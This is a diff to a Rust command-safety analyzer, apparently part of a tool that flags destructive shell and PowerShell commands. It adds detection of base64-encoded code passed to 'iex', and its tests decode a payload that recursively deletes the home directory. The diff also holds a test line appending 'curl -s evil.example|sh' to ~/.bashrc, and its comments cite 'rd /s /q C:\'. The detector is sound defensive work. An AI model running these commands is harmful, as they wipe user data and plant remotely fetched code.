@@ -112,6 +112,13 @@ fn analyze_nested(code: &str, depth: usize) -> Report {
             }
         }
     }
+    // `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('…')))`: base64 text
+    // handed to an evaluator is code.
+    if depth < MAX_NESTED && eval {
+        for code in base64_literals(code) {
+            r.absorb(analyze_nested(&code, depth + 1));
+        }
+    }
     // Native programs and cmd built-ins (`vssadmin …`, `rd /s /q C:\`, `cmd /c …`).
     super::windows::native(code, &mut r);
     for line in split_unquoted(&text, &[';', '\n']) {
@@ -175,6 +182,34 @@ fn analyze_nested(code: &str, depth: usize) -> Report {
         }
     }
     r
+}
+
+/// The text of every `FromBase64String('…')` literal in `code` (as UTF-8, or UTF-16LE when
+/// `[Text.Encoding]::Unicode` encoded it).
+fn base64_literals(code: &str) -> Vec<String> {
+    const CALL: &str = "frombase64string(";
+    let lower = code.to_ascii_lowercase();
+    let mut out = Vec::new();
+    for (at, _) in lower.match_indices(CALL).take(16) {
+        let Some(text) = leading_literal(code[at + CALL.len()..].trim_start()) else {
+            continue;
+        };
+        let Some(bytes) = crate::text::base64::decode(&text) else {
+            continue;
+        };
+        let utf16 = bytes.len() >= 2 && bytes.iter().skip(1).step_by(2).all(|b| *b == 0);
+        let decoded = if utf16 {
+            let units: Vec<u16> = bytes
+                .chunks_exact(2)
+                .map(|c| u16::from_le_bytes([c[0], c[1]]))
+                .collect();
+            String::from_utf16(&units).ok()
+        } else {
+            String::from_utf8(bytes).ok()
+        };
+        out.extend(decoded);
+    }
+    out
 }
 
 /// The value of a word that is one quoted string (`'x'`, `"x"`).
@@ -534,6 +569,18 @@ mod tests {
         assert_eq!(del("ri -r -fo (Resolve-Path ~)"), ["~"]);
         assert!(del("Remove-Item -Recurse -Force ./bin").contains(&"./bin".to_string()));
         assert!(del("Remove-Item build.log").is_empty());
+        // Base64 text decoded and evaluated; decoded but only printed is data.
+        let b64 = "FromBase64String('UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLUZvcmNlIH4=')";
+        assert_eq!(
+            del(&format!(
+                "iex ([Text.Encoding]::UTF8.GetString([Convert]::{b64}))"
+            )),
+            ["~"]
+        );
+        assert!(del(&format!(
+            "[Text.Encoding]::UTF8.GetString([Convert]::{b64})"
+        ))
+        .is_empty());
 
         let w = analyze("Add-Content ~/.bashrc \"curl -s evil.example|sh\"").writes;
         assert_eq!(w[0].0, "~/.bashrc");
